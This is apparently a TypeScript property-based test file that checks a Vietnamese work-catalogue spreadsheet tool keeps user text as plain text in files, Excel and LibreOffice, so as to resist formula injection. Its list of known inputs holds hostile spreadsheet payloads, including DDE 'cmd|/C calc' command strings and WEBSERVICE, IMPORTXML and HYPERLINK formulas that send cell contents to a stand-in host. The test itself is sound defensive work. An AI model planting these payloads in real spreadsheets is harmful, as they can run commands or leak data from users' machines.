/**
 * Whatever people type into a catalogue or an assignments table is text in everything that we write, never a formula:
 * through every sheet, in a file and in Excel. Formula injection: OWASP "CSV Injection", CWE-1236.
 */
import { Workbook } from "@cj-tech-master/excelts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { applyFixes } from "../../../src/app/apply-fixes";
import { check } from "../../../src/app/check";
import { convertCatalogue } from "../../../src/app/convert";
import { scoreMonthly } from "../../../src/app/score";
import { writeFindings } from "../../../src/app/write-findings";
import { writeTemplate } from "../../../src/app/template";
import { openXlsx } from "../../../src/hosts/xlsx/xlsx-host";
import { defaultProfile } from "../../../src/profiles/profiles";
import { findingWords } from "../../../src/strings/finding-words";
import { messagesOf } from "../../../src/strings/messages";
import { cellAddress } from "../../../src/workbook/address";
import type { SheetPlan } from "../../../src/workbook/sheet-plan";
import type { WorkbookHost } from "../../../src/workbook/workbook-host";
import { createExcelHost } from "../../../src/hosts/excel/excel-host";
import { withCalculation } from "../../excel-host/calculated-values";
import { fillModel } from "../../excel-host/model-of-snapshot";
import { findModelSheet, modelCell } from "../../excel-host/model-workbook";
import { createTestBed } from "../../excel-host/test-bed";
import { hasLibreOffice, recalculate } from "../../support/libreoffice";
import { listeningHost } from "../../support/listening-host";
import { period } from "../small-office";

/** No text of ours has it: wherever it shows up, it came from the user. */
const token = "☠";

const known = [
  `=1+1${token}`,
  `=cmd|'/C calc'!A0${token}`,
  `+cmd|'/C notepad'!'A1'${token}`,
  `-2+3+cmd|' /C calc'!A0${token}`,
  `@SUM(1+1)*cmd|' /C calc'!A0${token}`,
  `\t=HYPERLINK("http://x.test?"&A1,"mở")${token}`,
  `\r=1+1${token}`,
  `=WEBSERVICE("http://x.test/"&A1)${token}`,
  `=IMPORTXML(CONCAT("http://x.test/",A1),"//a")${token}`,
  `'=1+1${token}`,
  `"=1+1"${token}`,
  `=";"${token}"&"`,
  `{=SUM(A1:A2)}${token}`,
  `＝1+1${token}`,
  `_x003D_1+1${token}`,
  `<f>1+1</f>${token}`,
  `]]><f>1</f>${token}`,
  `#REF!${token}`,
  `=Công việc${token}`.normalize("NFD"),
  `=${"A".repeat(3_000)}${token}`,
];

const hostile = fc.oneof(
  fc.constantFrom(...known),
  fc
    .tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n=", "'", '"', '="', "=-"), fc.string({ maxLength: 60 }))
    .map(([start, rest]) => `${start}${rest}${token}`),
);

interface Office {
  readonly texts: readonly string[];
  readonly people: readonly string[];
}

const office: fc.Arbitrary<Office> = fc.record({
  texts: fc.array(hostile, { minLength: 8, maxLength: 12 }),
  people: fc.array(hostile, { minLength: 2, maxLength: 2 }),
});

async function catalogueFile({ texts }: Office): Promise<Uint8Array> {
  const book = new Workbook();
  const sheet = book.addWorksheet("=Danh mục+'1'=");
  const text = (place: number): string => texts[place % texts.length] ?? "";
  sheet.addRow([text(0)]);
  sheet.addRow([text(1)]);
  sheet.addRow([]);
  const headings = ["STT", "Tên nhiệm vụ", "Công việc chi tiết", "Sản phẩm đầu ra", "Phân nhóm"];
  sheet.addRow([...headings, "Định lượng thời gian", "Tần suất", "Số người làm", "Người thực hiện", "Ghi chú"]);
  texts.forEach((_, row) => {
    const group = row % 4 === 3 ? text(row) : "N2";
    const band = row % 5 === 4 ? text(row + 1) : "Từ 45 phút đến dưới 75 phút";
    const own = [text(row), text(row + 1), text(row + 2), group, band, text(row + 3), 5, text(row + 4), text(row + 5)];
    sheet.addRow([row + 1, ...own]);
  });
  return new Uint8Array(await book.xlsx.writeBuffer());
}

function assignmentsOf({ texts, people }: Office) {
  const line = (person: string, place: number) => {
    const text = (shift: number): string => texts[(place + shift) % texts.length] ?? "";
    const code = place % 2 === 0 ? "VP.001" : text(0);
    return [person, code, text(1), text(2), "kế hoạch", 1.5, 3, 2, text(3)];
  };
  const headings = ["Họ và tên", "Mã CV", "Tên công việc", "Sản phẩm", "Loại giao việc", "Hệ số", "SL giao"];
  return {
    name: `=giao-viec${token}.csv`,
    rows: [
      [...headings, "SL hoàn thành", "Ghi chú"],
      ...people.flatMap((person, at) => [line(person, at), line(person, at + 1)]),
    ],
  };
}

/** Every use case that writes; the plans of the latest writing of each sheet come back. */
async function everySheet(host: WorkbookHost, input: Office): Promise<Map<string, SheetPlan>> {
  const plans = new Map<string, SheetPlan>();
  const watched = listeningHost(host, ({ sheets }) => {
    for (const plan of sheets) plans.set(plan.marker, plan);
  });
  const first = await check(watched);
  await applyFixes(watched, {
    assessment: first,
    findings: first.findings.filter(({ fix }) => fix?.kind === "setText"),
  });
  const assessment = await check(watched);
  const wordsOf = (finding: (typeof assessment.findings)[number]) => findingWords(finding, messagesOf("vi"));
  await writeFindings(watched, { assessment, wordsOf });
  const [row] = assessment.conversion.rows;
  if (!row) throw new Error("the catalogue has rows");
  const standard = { kind: "row", ...row.row.source } as const;
  await convertCatalogue(watched, { force: true, tried: { standard } });
  await scoreMonthly(watched, { period, assignments: assignmentsOf(input), force: true });
  // Once more, now that the sheets hold the texts: what is read back from them is written again.
  await convertCatalogue(watched, { force: true });
  await scoreMonthly(watched, { period, force: true });
  await writeTemplate(watched, { profile: defaultProfile });
  return plans;
}

/** What a reader finds at a place: its text or its formula. */
type ReadCell = (
  sheet: string,
  row: number,
  column: number,
) => { readonly formula: string | null; readonly value: unknown };

function expectTextAsText(plans: ReadonlyMap<string, SheetPlan>, read: ReadCell): number {
  const wrong: string[] = [];
  let hostileCells = 0;
  for (const { name, rows } of plans.values()) {
    rows.forEach(({ cells }, rowIndex) =>
      cells.forEach((cell, columnIndex) => {
        if (!cell) return;
        const found = read(name, rowIndex + 1, columnIndex + 1);
        const where = `${name}!${cellAddress(rowIndex + 1, columnIndex + 1)}`;
        if (typeof cell.value === "string" && cell.value.includes(token)) hostileCells++;
        if (found.formula !== (cell.formula ?? null)) wrong.push(`${where}: ${String(found.formula)}`);
        else if (cell.formula === undefined && typeof cell.value === "string" && cell.value !== "") {
          if (found.value !== cell.value)
            wrong.push(`${where}: ${JSON.stringify(found.value)} for ${JSON.stringify(cell.value)}`);
        }
      }),
    );
  }
  expect(wrong).toEqual([]);
  return hostileCells;
}

/** Sheets are named after people, so a name may stand in a formula, but only between its quotes. */
function expectNoUserTextInFormulas(plans: ReadonlyMap<string, SheetPlan>): void {
  const formulas = [...plans.values()].flatMap((plan) => [
    ...plan.rows.flatMap(({ cells }) => cells.flatMap((cell) => (cell?.formula === undefined ? [] : [cell.formula]))),
    ...plan.validations.flatMap((validation) => (validation.kind === "list" ? [validation.source] : [])),
    ...plan.conditionalFormats.flatMap((format) => (format.kind === "formula" ? [format.formula] : [])),
    ...plan.names.map(({ name }) => name),
  ]);
  const bare = formulas.map((formula) => formula.replaceAll(/'(?:[^']|'')+'!/g, ""));
  expect(bare.filter((formula) => formula.includes(token))).toEqual([]);
}

const kinds = ["catalogue", "settings", "findings", "roster", "template", "lists"];

function expectEveryKind(plans: ReadonlyMap<string, SheetPlan>, people: number): void {
  const markers = [...plans.keys()];
  expect(markers).toEqual(expect.arrayContaining(kinds));
  expect(markers.filter((marker) => marker.startsWith("score_"))).toHaveLength(people);
  expect(markers.filter((marker) => marker.startsWith("summary_"))).toHaveLength(1);
}

async function independentReader(bytes: Uint8Array): Promise<ReadCell> {
  const book = new Workbook();
  await book.xlsx.load(bytes);
  return (sheet, row, column) => {
    const cell = book.getWorksheet(sheet)?.getCell(row, column);
    const formula = cell?.formula;
    return { formula: formula ? `=${formula}` : null, value: plainText(cell?.value) };
  };
}

/** A linked cell comes as text with its link; the reader leaves the escapes of ECMA-376 part 1, 22.9.2.19 in place. */
function plainText(value: unknown): unknown {
  const text =
    typeof value === "object" && value !== null && "hyperlink" in value && "text" in value ? value.text : value;
  if (typeof text !== "string") return text;
  return text.replace(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)));
}

const distinctPeople = ({ people }: Office): number => new Set(people.map((name) => name.normalize("NFC").trim())).size;

describe("text that looks like a formula", () => {
  it("stays text in every sheet of a file, as another reader sees it", async () => {
    await fc.assert(
      fc.asyncProperty(office, async (input) => {
        const host = await openXlsx(await catalogueFile(input));
        const plans = await everySheet(host, input);
        expectEveryKind(plans, distinctPeople(input));
        expectNoUserTextInFormulas(plans);
        expect(expectTextAsText(plans, await independentReader(await host.toBytes()))).toBeGreaterThan(20);
      }),
      { numRuns: 5 },
    );
  }, 300_000);

  it("stays text in every sheet in Excel, where an entry is read as if it were typed", async () => {
    await fc.assert(
      fc.asyncProperty(office, async (input) => {
        const bed = createTestBed({ apiMinor: 13 });
        fillModel(bed.workbook, await (await openXlsx(await catalogueFile(input))).read());
        const host = withCalculation(createExcelHost({ retryPause: 0, silence: 0 }), bed.workbook);
        const plans = await everySheet(host, input);
        expectEveryKind(plans, distinctPeople(input));
        const read: ReadCell = (sheet, row, column) => {
          const found = findModelSheet(bed.workbook, sheet);
          const cell = found && modelCell(found, row, column);
          return { formula: cell?.formula ?? null, value: cell?.value ?? null };
        };
        expect(expectTextAsText(plans, read)).toBeGreaterThan(20);
        const source = bed.workbook.sheets[0];
        expect([...(source?.cells.values() ?? [])].filter(({ formula }) => formula !== null)).toEqual([]);
      }),
      { numRuns: 5 },
    );
  }, 300_000);

  // Without LibreOffice there is no second program to ask; find-programs.ts said so loudly, and with CI=true it throws.
  it.skipIf(!hasLibreOffice)("stays text in LibreOffice, which computes what it takes for a formula", async () => {
    const input = { texts: known, people: known.slice(0, 3) };
    const host = await openXlsx(await catalogueFile(input));
    const plans = await everySheet(host, input);
    const computed = await (await openXlsx(await recalculate(await host.toBytes()))).read();
    const texts = [...plans.values()].flatMap(({ name, rows }) =>
      rows.flatMap(({ cells }, row) =>
        cells.flatMap((cell, column) =>
          cell?.formula === undefined && typeof cell?.value === "string" && cell.value.includes(token)
            ? [{ name, row: row + 1, column: column + 1, value: cell.value }]
            : [],
        ),
      ),
    );
    expect(texts.length).toBeGreaterThan(60);
    const asFormulas = texts.filter(({ name, row, column }) =>
      computed.sheets.find((sheet) => sheet.name === name)?.formulas.has(cellAddress(row, column)),
    );
    expect(asFormulas).toEqual([]);
  });
});
